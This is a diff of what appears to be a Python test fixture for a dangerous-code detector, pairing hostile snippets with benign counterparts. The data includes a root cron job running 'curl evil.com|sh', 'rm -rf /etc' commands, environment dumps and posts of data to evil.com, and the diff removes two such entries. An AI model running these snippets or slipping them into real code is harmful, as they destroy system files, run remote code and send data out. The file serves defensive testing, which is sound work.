@@ -45,10 +45,6 @@ PAIRS = {
         "import logging\nlogging.basicConfig(filename='/etc/cron.d/evil', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
         "import logging\nlogging.basicConfig(filename='run.log', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
     ),
-    "subprocess executable": (
-        "import subprocess\nsubprocess.run(['ls', '-c', 'rm -rf /etc'], executable='/bin/sh')",
-        "import subprocess, sys\nsubprocess.run(['python', '-c', 'print(1)'], executable=sys.executable)",
-    ),
     "iter sentinel": (
         "import os\nit = iter(['rm -rf /etc'])\nos.system(next(it))",
         "import os\nit = iter(['ls build'])\nos.system(next(it))",
@@ -80,7 +76,6 @@ NEARBY = [
     "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
     "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
     "import asyncio\nasyncio.run(asyncio.start_server(print, '0.0.0.0', 9999))",
-    "import httpx\nhttpx.Client(base_url='https://evil.com').post('/x', content=b'1')",
     "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.com', data=b'x')",
     "import paramiko\nparamiko.Transport(('evil.com', 22))",
     "import shutil\nshutil.copytree('/etc', '/tmp/stage')",
